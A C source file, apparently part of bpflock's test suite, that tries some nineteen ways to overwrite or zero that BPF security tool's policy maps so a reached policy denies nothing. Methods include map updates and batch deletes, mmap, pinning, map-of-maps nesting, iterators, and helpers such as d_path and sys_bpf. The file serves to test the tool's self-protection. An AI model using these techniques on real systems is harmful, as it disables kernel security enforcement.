/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * Attacks on what a verdict reads. Each is tried on every map of bpflock's, those in slots of
 * others included; what can be written becomes zeros, so a policy that was reached denies nothing.
 */
#include "attack-insn.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/stat.h>

/* An element of a map: its key, and its value as an update wants it. */
struct element {
	uint8_t key[512];
	uint8_t value[64 * 1024];
};

static int find_element(int fd, struct element *e)
{
	union bpf_attr attr = { .map_fd = fd, .next_key = POINTER(e->key) };
	struct bpf_map_info info;
	uint32_t inner;

	if (map_info(fd, &info) < 0 || BPF(BPF_MAP_GET_NEXT_KEY, &attr) < 0)
		return -1;
	attr = (union bpf_attr){ .map_fd = fd, .key = POINTER(e->key), .value = POINTER(e->value) };
	if (BPF(BPF_MAP_LOOKUP_ELEM, &attr) < 0)
		return -1;
	if (info.type == BPF_MAP_TYPE_ARRAY_OF_MAPS) {
		memcpy(&inner, e->value, sizeof(inner));
		inner = map_by_id(inner);
		memcpy(e->value, &inner, sizeof(inner));
	}
	return 0;
}

/* A map of the same shape, not frozen, of zeros. */
static int make_twin(int fd)
{
	struct bpf_map_info info;
	union bpf_attr attr;

	if (map_info(fd, &info) < 0)
		return -1;
	attr = (union bpf_attr){ .map_type = info.type,
				 .key_size = info.key_size,
				 .value_size = info.value_size,
				 .max_entries = info.max_entries,
				 .map_flags = info.map_flags };
	return BPF(BPF_MAP_CREATE, &attr);
}

/* The value becomes zeros, or for a map of maps another map of zeros. */
static int prepare_element(int fd, struct element *e)
{
	struct bpf_map_info info;
	int inner;

	if (find_element(fd, e) < 0 || map_info(fd, &info) < 0)
		return -1;
	if (info.type != BPF_MAP_TYPE_ARRAY_OF_MAPS) {
		memset(e->value, 0, sizeof(e->value));
		return 0;
	}
	memcpy(&inner, e->value, sizeof(inner));
	inner = make_twin(inner);
	memcpy(e->value, &inner, sizeof(inner));
	return inner;
}

/* The first element; a batch is of that one. */
static int on_element(int fd, int command)
{
	static struct element e;
	bool writes = command == BPF_MAP_UPDATE_ELEM || command == BPF_MAP_UPDATE_BATCH;
	union bpf_attr attr = { .map_fd = fd, .key = POINTER(e.key) };

	if (writes ? prepare_element(fd, &e) < 0 : find_element(fd, &e) < 0)
		return -1;
	if (command == BPF_MAP_UPDATE_BATCH || command == BPF_MAP_DELETE_BATCH)
		attr = (union bpf_attr){ .batch = { .map_fd = fd,
						    .count = 1,
						    .keys = POINTER(e.key),
						    .values = writes ? POINTER(e.value) : 0 } };
	else if (command != BPF_MAP_DELETE_ELEM)
		attr.value = POINTER(e.value);
	return BPF(command, &attr);
}

static int do_freeze(int fd)
{
	union bpf_attr attr = { .map_fd = fd };

	return BPF(BPF_MAP_FREEZE, &attr);
}

static int do_mmap(int fd)
{
	return mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) == MAP_FAILED ? -1 : 0;
}

static int do_nothing(int fd)
{
	(void)fd;
	return 0;
}

static int do_pin(int fd)
{
	char path[64];
	union bpf_attr attr = { .pathname = POINTER(path), .bpf_fd = fd };

	snprintf(path, sizeof(path), "/sys/fs/bpf/attack-%d-%d", getpid(), fd);
	return BPF(BPF_OBJ_PIN, &attr);
}

/* From a program that has the map by its fd: 64 bytes of its first value. */
static int do_program(int fd)
{
	struct bpf_insn insns[] = {
		FIRST_VALUE(fd),
		IF_ZERO(0, 8),
		SET(1, 0),
		STORE_7(0, 1),
		SET(0, 0),
		END,
	};

	return RUN(BPF_PROG_TYPE_RAW_TRACEPOINT, insns);
}

/* A program of theirs that looks a slot up, and writes to what it finds there by the helper. */
static int do_nest(int fd)
{
	union bpf_attr attr = { .map_type = BPF_MAP_TYPE_ARRAY_OF_MAPS,
				.key_size = 4,
				.value_size = 4,
				.max_entries = 1,
				.inner_map_fd = fd };
	int outer = BPF(BPF_MAP_CREATE, &attr), zero = 0;

	attr = (union bpf_attr){ .map_fd = outer, .key = POINTER(&zero), .value = POINTER(&fd) };
	if (outer < 0 || BPF(BPF_MAP_UPDATE_ELEM, &attr) < 0)
		return -1;

	struct bpf_insn insns[] = {
		FIRST_VALUE(outer),
		IF_ZERO(0, 7),
		COPY(1, 0),
		COPY(2, 10),
		ADD(2, -8),
		SET(3, 0),
		SET(4, 0),
		CALL(BPF_FUNC_map_lookup_elem),
		SET(0, 0),
		END,
	};
	return RUN(BPF_PROG_TYPE_RAW_TRACEPOINT, insns);
}

/* Its map among those of a program of theirs. */
static int do_bind(int fd)
{
	struct bpf_insn insns[] = { SET(0, 0), END };
	union bpf_attr attr = { .prog_type = BPF_PROG_TYPE_RAW_TRACEPOINT };

	attr = (union bpf_attr){ .prog_bind_map = { .prog_fd = LOAD(&attr, insns), .map_fd = fd } };
	return BPF(BPF_PROG_BIND_MAP, &attr);
}

/* iter/bpf_map_elem that writes zeros through its context, for which reading is enough. */
int load_iterator(void)
{
	struct bpf_insn insns[] = {
		LOAD_FROM(BPF_DW, 6, 1, 24), /* bpf_iter__bpf_map_elem.value */
		IF_ZERO(6, 8),
		SET(2, 0),
		STORE_7(6, 2),
		SET(0, 0),
		END,
	};
	union bpf_attr attr = { .prog_type = BPF_PROG_TYPE_TRACING,
				.expected_attach_type = BPF_TRACE_ITER,
				.attach_btf_id = kernel_function("bpf_iter_bpf_map_elem") };

	return LOAD(&attr, insns);
}

int iterator_link(int prog, int map)
{
	union bpf_iter_link_info info = { .map.map_fd = map };
	union bpf_attr attr = { .link_create = { .prog_fd = prog,
						 .attach_type = BPF_TRACE_ITER,
						 .iter_info = POINTER(&info),
						 .iter_info_len = sizeof(info) } };

	return BPF(BPF_LINK_CREATE, &attr);
}

int iterate(int link)
{
	union bpf_attr attr = { .iter_create = { .link_fd = link } };
	int fd = BPF(BPF_ITER_CREATE, &attr);
	char nothing[64];

	return fd < 0 ? fd : (int)read(fd, nothing, sizeof(nothing));
}

static int do_iterate(int fd)
{
	int link = iterator_link(load_iterator(), fd);

	return link < 0 ? link : iterate(link);
}

/* A helper that writes to memory, with a map's value as that. fentry/vfs_truncate has a path to
 * write. */
static int do_d_path(int fd)
{
	struct bpf_insn insns[] = {
		LOAD_FROM(BPF_DW, 6, 1, 0),
		FIRST_VALUE(fd),
		IF_ZERO(0, 4),
		COPY(1, 6),
		COPY(2, 0),
		SET(3, 48),
		CALL(BPF_FUNC_d_path),
		SET(0, 0),
		END,
	};
	union bpf_attr attr = { .prog_type = BPF_PROG_TYPE_TRACING,
				.expected_attach_type = BPF_TRACE_FENTRY,
				.attach_btf_id = kernel_function("vfs_truncate") };
	const char *file = "/tmp/a-path-that-is-long-enough-to-be-noticed";
	int prog = LOAD(&attr, insns), link = prog < 0 ? prog : attach_program(prog), r;

	if (link < 0)
		return link;
	close(open(file, O_CREAT | O_WRONLY, 0600));
	r = truncate(file, 0);
	unlink(file);
	close(link);
	return r;
}

static int do_comm(int fd)
{
	struct bpf_insn insns[] = {
		FIRST_VALUE(fd), IF_ZERO(0, 3), COPY(1, 0), SET(2, 16),
		CALL(BPF_FUNC_get_current_comm), SET(0, 0), END,
	};

	return RUN(BPF_PROG_TYPE_RAW_TRACEPOINT, insns);
}

static int do_strtol(int fd)
{
	struct bpf_insn insns[] = {
		FIRST_VALUE(fd),
		IF_ZERO(0, 7),
		COPY(4, 0),
		STORE(BPF_DW, 10, -8, 0x30),
		COPY(1, 10),
		ADD(1, -8),
		SET(2, 2),
		SET(3, 0),
		CALL(BPF_FUNC_strtol),
		SET(0, 1),
		END,
	};
	union bpf_attr attr = { .prog_type = BPF_PROG_TYPE_CGROUP_SYSCTL,
				.expected_attach_type = BPF_CGROUP_SYSCTL };

	return LOAD(&attr, insns);
}

/* bpf(2) from within a program: a light skeleton's way. */
static int do_sys_bpf(int fd)
{
	struct bpf_insn insns[] = {
		STORE(BPF_DW, 10, -48, 0),
		STORE(BPF_DW, 10, -40, 0),
		STORE(BPF_DW, 10, -32, 0),
		STORE(BPF_DW, 10, -24, 0),
		STORE(BPF_W, 10, -48, fd),
		SET(1, BPF_MAP_FREEZE),
		COPY(2, 10),
		ADD(2, -48),
		SET(3, 32),
		CALL(BPF_FUNC_sys_bpf),
		END,
	};

	return RUN(BPF_PROG_TYPE_SYSCALL, insns);
}

static const struct {
	const char *name;
	int (*act)(int fd);
	uint32_t flags; /* that the fd is asked for with */
	int command;	/* on its first element; instead of act */
} acts[] = {
	{ "open", .act = do_nothing },
	{ "open-to-read", .act = do_nothing, .flags = BPF_F_RDONLY },
	{ "open-to-write", .act = do_nothing, .flags = BPF_F_WRONLY },
	{ "write", .command = BPF_MAP_UPDATE_ELEM },
	{ "batch", .command = BPF_MAP_UPDATE_BATCH },
	{ "delete", .command = BPF_MAP_DELETE_ELEM },
	{ "batch-delete", .command = BPF_MAP_DELETE_BATCH },
	{ "take", .command = BPF_MAP_LOOKUP_AND_DELETE_ELEM },
	{ "freeze", .act = do_freeze },
	{ "mmap", .act = do_mmap },
	{ "pin", .act = do_pin },
	{ "program", .act = do_program },
	{ "nest", .act = do_nest },
	{ "bind", .act = do_bind },
	{ "iterate", .act = do_iterate, .flags = BPF_F_RDONLY },
	{ "d_path", .act = do_d_path, .flags = BPF_F_RDONLY },
	{ "comm", .act = do_comm },
	{ "strtol", .act = do_strtol, .flags = BPF_F_RDONLY },
	{ "sys_bpf", .act = do_sys_bpf },
};

bool find_act(const char *act, uint32_t *ret_flags)
{
	for (size_t i = 0; i < COUNT(acts); i++) {
		if (strcmp(acts[i].name, act) != 0)
			continue;
		*ret_flags = acts[i].flags;
		return true;
	}
	return false;
}

int act_on_map(const char *act, int fd)
{
	for (size_t i = 0; i < COUNT(acts); i++)
		if (strcmp(acts[i].name, act) == 0)
			return acts[i].act ? acts[i].act(fd) : on_element(fd, acts[i].command);
	return 0;
}
